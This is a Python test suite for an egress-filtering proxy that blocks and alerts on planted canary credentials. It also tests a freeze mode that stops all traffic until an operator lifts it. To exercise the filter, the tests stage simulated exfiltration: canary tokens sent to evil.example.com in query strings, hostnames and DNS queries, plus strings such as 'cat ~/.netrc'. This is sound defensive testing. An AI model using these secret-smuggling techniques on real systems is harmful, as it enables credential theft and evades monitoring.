"""Canaries: any sighting blocks and raises an alarm that names the canary and never shows it; `freeze` stops the rest."""
import base64
import gzip
import json
import socket
import ssl
import time
import urllib.parse

from harness import OTHER_SECRET, World, check, main, make_leaf

KEY_ID = "AKIAQNZGKIQY56JQ7WML"
NETRC = "glpat-Zx81kWq0pLmN2vBc4dRt"
TOKEN = "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"
CANARIES = {"aws-access-key-id": KEY_ID, "netrc-password": NETRC, "dotenv-github-token": TOKEN}
ROUTES = [
    {"host": "api.example.com"},
    {"host": "blind.example.com", "dlp": {"outbound_detectors": []}},
]


def world(program, share, on_canary=None, **more):
    w = World(program, share, ROUTES, config={"canaries": [{"name": k, "value": v} for k, v in CANARIES.items()]}, **more)
    if on_canary:
        w.document["egress"]["on_canary"] = on_canary
    w.origin = w.tls_origin(*[route["host"] for route in ROUTES])
    return w


def sightings(w):
    return [event for event in w.events() if event["event"] == "canary_seen"]


@check
def a_sighting_anywhere_blocks_and_names_the_canary_and_never_shows_it(program, share):
    with world(program, share).start() as w:
        disguises = [lambda v: v, lambda v: base64.b64encode(b"x" + v.encode()).decode(), lambda v: v[::-1],
                     lambda v: v.encode().hex(), lambda v: "".join("\\u%04x" % ord(c) for c in v)]
        for name, value in CANARIES.items():
            for disguise in disguises:
                text = disguise(value)
                before = len(sightings(w))
                for ask in [dict(path="/?q=" + urllib.parse.quote(text)), dict(path="/", headers=f"X-Note: {text}\r\n"),
                            dict(path="/", method="POST", body=text.encode())]:
                    got = w.get("api.example.com", **ask)
                    assert got.status == 403, (name, text, got.status)
                    # The agent is not told that it was a canary.
                    assert got.json()["reason"] == "secret_found" and b"canary" not in got.body, got.body
                seen = sightings(w)[before:]
                assert len(seen) == 3 and {e["rule"] for e in seen} == {"canary:" + name}, (name, text, seen)
                assert {(e["kind"], e["level"]) for e in seen} == {("dlp", "block")}, seen
                assert {e["where"].split(" ")[0] for e in seen} <= {"query", "header", "body", "path"}, seen
        got = w.get("api.example.com", "/", method="POST", body=gzip.compress(b"[prod]\nkey = " + KEY_ID.encode() + b"\n"))
        assert got.status == 403 and sightings(w)[-1]["rule"] == "canary:aws-access-key-id"
        log = open(w.state + "/logs/events.jsonl").read()
        assert not any(value in log or value[::-1] in log for value in CANARIES.values())
        assert not any(value.encode() in request.body for request in w.origin.requests for value in CANARIES.values())
        assert w.get("api.example.com", "/").status == 200, "without freeze the rest goes on"


@check
def a_route_without_detectors_sees_canaries_all_the_same(program, share):
    with world(program, share, secrets={"S": OTHER_SECRET}).start() as w:
        assert w.get("blind.example.com", "/?k=" + OTHER_SECRET).status == 200, "the operator has switched it off"
        assert w.get("blind.example.com", "/?k=" + NETRC).status == 403
        assert w.get("blind.example.com", "/", method="POST", body=b"x" * 100000 + NETRC.encode()).status == 403
        assert [e["rule"] for e in sightings(w)] == ["canary:netrc-password"] * 2


@check
def a_canary_on_its_way_to_a_host_that_is_not_allowed_is_seen(program, share):
    with world(program, share).start() as w:
        status, _ = w.connect(KEY_ID.lower() + ".evil.example.com:443")
        assert status == 403
        client = w.proxy()
        client.send(f"GET http://evil.example.com/?k={NETRC} HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
        assert client.response().status == 403
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as report:
            report.connect(w.state + "/wire/report.sock")
            report.send(json.dumps({"kind": "dns", "name": KEY_ID + ".evil.example.com", "type": "A", "transport": "udp"}).encode())
        deadline = time.monotonic() + 20
        while len(sightings(w)) < 3:
            assert time.monotonic() < deadline, w.events()
        seen = sightings(w)
        assert [e["rule"] for e in seen] == ["canary:aws-access-key-id", "canary:netrc-password", "canary:aws-access-key-id"]
        assert [e["where"] for e in seen] == ["name of a host that was refused", "head of a request that was refused",
                                              "name in a DNS query"]


@check
def an_allowed_request_that_holds_none_raises_nothing(program, share):
    with world(program, share).start() as w:
        assert w.get("api.example.com", "/?file=.aws/credentials&key=AKIA", method="POST", body=b"cat ~/.netrc; glpat-\n").status == 200
        assert not sightings(w) and w.call("status")["canaries"] == 3 and w.call("status")["frozen_by"] == ""


@check
def freeze_stops_all_traffic_until_the_operator_lifts_it(program, share):
    with world(program, share, on_canary="freeze").start() as w:
        waiting = w.tls("api.example.com")
        waiting.send("POST /slow HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 10\r\n\r\nhalf")
        idle = w.tls("api.example.com")
        assert w.get("api.example.com", "/?q=" + NETRC).status == 403
        assert w.call("status")["frozen_by"] == "canary:netrc-password"
        waiting.send("whole!")
        assert waiting.response().status == 403, "what was under way ends"
        got = idle.get("/", "api.example.com")
        assert got.status == 403 and got.json()["reason"] == "frozen", got.body
        status, client = w.connect("api.example.com:443")
        assert status == 403 and b"frozen" in client.body
        # Nothing of the half that came before the freeze was completed at the origin.
        assert not any(request.target == "/slow" and b"whole" in request.body for request in w.origin.requests)
        assert [e["kind"] for e in w.events() if e["event"] == "frozen"] == ["sidecar"]
        answer = w.call("check", method="GET", url="https://api.example.com/")
        assert answer["verdict"] == "blocked" and "frozen" in answer["reason"]
        w.write_routes('[[routes]]\nhost = "api.example.com"\n[hosts]\n"api.example.com" = "%s"\n' % w.pins["api.example.com"])
        w.call("reload")
        assert w.connect("api.example.com:443")[0] == 403, "a reload lifts nothing"
        assert w.call("lift_freeze") == {"lifted": True, "frozen_by": "canary:netrc-password"}
        assert w.get("api.example.com", "/").status == 200
        assert w.get("api.example.com", "/?q=" + KEY_ID).status == 403
        assert w.call("status")["frozen_by"] == "canary:aws-access-key-id", "it freezes again"


@check
def a_freeze_during_a_dial_ends_it(program, share):
    w = world(program, share, on_canary="freeze")
    late = socket.create_server(("127.0.0.1", 0))
    certificate, key = make_leaf(w.directory, ["late.example.com"], "late")
    w.document["egress"]["routes"] = [*ROUTES, {"host": "late.example.com"}]
    w.pins["late.example.com"] = f"127.0.0.1:{late.getsockname()[1]}"
    with w.start():
        waiting = w.tls("late.example.com")
        waiting.send("GET / HTTP/1.1\r\nHost: late.example.com\r\n\r\n")
        connection, _ = late.accept()  # and no handshake yet
        assert w.get("api.example.com", "/?q=" + NETRC).status == 403
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate, key)
        secure = context.wrap_socket(connection, server_side=True)
        assert waiting.response().json()["reason"] == "frozen"
        try:
            got = secure.recv(100)
        except OSError:
            got = b""
        assert got == b"", "nothing goes out any more"
        assert w.call("status")["frozen_by"] == "canary:netrc-password"
        late.close()


main()
